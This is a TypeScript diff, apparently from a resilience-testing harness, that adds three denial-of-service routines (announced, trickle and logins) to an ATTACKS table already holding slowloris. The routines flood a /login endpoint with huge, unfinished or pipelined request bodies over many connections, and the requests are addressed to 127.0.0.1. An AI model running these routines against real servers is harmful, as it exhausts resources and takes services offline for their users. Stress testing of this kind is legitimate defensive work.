@@ -19,6 +19,9 @@ const ATTACKS: Record<string, (target: Target, amount: number) => Promise<Done>>
   slowloris,
   idle,
   bodies,
+  announced,
+  trickle,
+  logins,
 };
 
 /** Fragments without an end: `amount` MiB in 1 MiB parts, over four connections. */
@@ -124,6 +127,74 @@ async function bodies(target: Target, amount: number): Promise<Done> {
     connection.close();
   }));
   return { mib_taken: Math.round(kib / 1024) };
+}
+
+/** Bodies of a gigabyte by their header, on a route that is open to all, sent as fast as they are taken, then held. */
+async function announced(target: Target, amount: number): Promise<Done> {
+  const part = new Uint8Array(65_536).fill(120);
+  const taken = await holdBodies(target, amount, async (connection) => {
+    await connection.write(loginHead(1_000_000_000));
+    for (let bytes = 0;; bytes += part.length) {
+      if (await within(LASTS_MS, connection.write(part)) === "late") return bytes;
+    }
+  });
+  return { bodies: amount, mb_taken: Math.round(taken / MIB) };
+}
+
+/** Bodies that lack their last byte, which never comes. */
+async function trickle(target: Target, amount: number): Promise<Done> {
+  const taken = await holdBodies(target, amount, async (connection) => {
+    await connection.write(loginHead(8_000) + " ".repeat(7_990));
+    for (let sent = 0; sent < 9; sent++) {
+      await connection.write(" ");
+      await new Promise((resolve) => setTimeout(resolve, LASTS_MS / 9));
+    }
+    return 8_000;
+  });
+  return { bodies: amount, mb_taken: Math.round(taken / MIB) };
+}
+
+/** Whole logins, one after the other on each connection, whose answers are never read. */
+async function logins(target: Target, amount: number): Promise<Done> {
+  const body = JSON.stringify({ user: "admin", password: "x".repeat(180) }).padEnd(7_000);
+  const request = loginHead(body.length) + body;
+  const taken = await holdBodies(target, amount, async (connection) => {
+    for (let bytes = 0;; bytes += request.length) {
+      if (await within(LASTS_MS, connection.write(request)) === "late") return bytes;
+    }
+  });
+  return { bodies: amount, mb_taken: Math.round(taken / MIB) };
+}
+
+function loginHead(length: number): string {
+  return `POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
+}
+
+/** Runs connections at once, each until it is ended by the other side, blocked, or `LASTS_MS` are over; returns a sum. */
+async function holdBodies(
+  target: Target,
+  amount: number,
+  send: (connection: RawSocket) => Promise<number>,
+): Promise<number> {
+  const connections: RawSocket[] = [];
+  const end = setTimeout(() => connections.forEach((connection) => connection.close()), 2 * LASTS_MS);
+  const taken = await Promise.all(Array.from({ length: amount }, async () => {
+    const connection = await RawSocket.open(target).catch(() => null);
+    if (!connection) return 0;
+    connections.push(connection);
+    return await send(connection).catch(() => 0);
+  }));
+  await new Promise((resolve) => setTimeout(resolve, 1_000));
+  clearTimeout(end);
+  connections.forEach((connection) => connection.close());
+  return taken.reduce((sum, bytes) => sum + bytes, 0);
+}
+
+async function within<T>(ms: number, work: Promise<T>): Promise<T | "late"> {
+  work.catch(() => {});
+  const { promise, resolve } = Promise.withResolvers<"late">();
+  const timer = setTimeout(() => resolve("late"), ms);
+  return await Promise.race([work, promise]).finally(() => clearTimeout(timer));
 }
 
 /** Websockets that do nothing. */
